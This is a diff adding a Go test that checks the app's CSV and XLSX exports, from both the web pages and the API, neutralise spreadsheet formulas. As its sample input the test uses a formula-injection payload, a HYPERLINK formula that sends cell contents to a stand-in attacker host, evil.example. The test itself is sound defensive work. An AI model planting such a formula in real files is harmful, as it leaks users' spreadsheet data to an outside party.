@@ -2,6 +2,7 @@ package web
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"html"
 	"net/http"
@@ -16,6 +17,7 @@ import (
 	"github.com/enablemap/enablemap/internal/enablemap"
 	"github.com/enablemap/enablemap/internal/service"
 	"github.com/enablemap/enablemap/internal/store"
+	"github.com/xuri/excelize/v2"
 )
 
 // xss is stored in every text field; it must come back as text.
@@ -530,5 +532,70 @@ func TestWorkspaceAdministration(t *testing.T) {
 	}
 	if home := e.do("GET", "/", nil).Body.String(); !strings.Contains(home, html.EscapeString(e.demo.Name)) {
 		t.Fatal("after switching back the demo does not show")
+	}
+}
+
+// Every CSV and XLSX export, from the pages and the API, neutralises text
+// that a spreadsheet would run as a formula.
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	ae := newAccessEnv(t)
+	ctx := ae.asOwner(context.Background())
+	a, _ := ae.analysis(t)
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	if _, err := ae.svc.Decide(ctx, ae.demo.ID, enablemap.Decision{Kind: enablemap.Rename, ResponseID: a.Activities[0].ID, Text: formula}); err != nil {
+		t.Fatal(err)
+	}
+	p := fmt.Sprintf("/projects/%d", ae.demo.ID)
+	api := fmt.Sprintf("/api/v1/projects/%d/report?format=", ae.demo.ID)
+	for _, path := range []string{p + "/export/activities.csv", p + "/export/report.xlsx", api + "csv", api + "xlsx"} {
+		t.Run(path, func(t *testing.T) {
+			req := httptest.NewRequest("GET", path, nil)
+			if strings.HasPrefix(path, "/api/") {
+				req.Header.Set("Authorization", "Bearer "+ae.tokens["viewer"])
+			} else {
+				ae.callers["viewer"].authorize(req)
+			}
+			rec := httptest.NewRecorder()
+			ae.srv.ServeHTTP(rec, req)
+			if rec.Code != 200 {
+				t.Fatalf("got %d", rec.Code)
+			}
+			var cells []string
+			if strings.HasSuffix(path, "csv") {
+				rows, err := csv.NewReader(rec.Body).ReadAll()
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, r := range rows {
+					cells = append(cells, r...)
+				}
+			} else {
+				f, err := excelize.OpenReader(rec.Body)
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, sheet := range f.GetSheetList() {
+					rows, err := f.GetRows(sheet)
+					if err != nil {
+						t.Fatal(err)
+					}
+					for _, r := range rows {
+						cells = append(cells, r...)
+					}
+				}
+			}
+			found := false
+			for _, c := range cells {
+				if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "@") {
+					t.Fatalf("cell %q would run as a formula", c)
+				}
+				if c == "'"+formula {
+					found = true
+				}
+			}
+			if !found {
+				t.Fatal("the renamed activity is not in the export")
+			}
+		})
 	}
 }
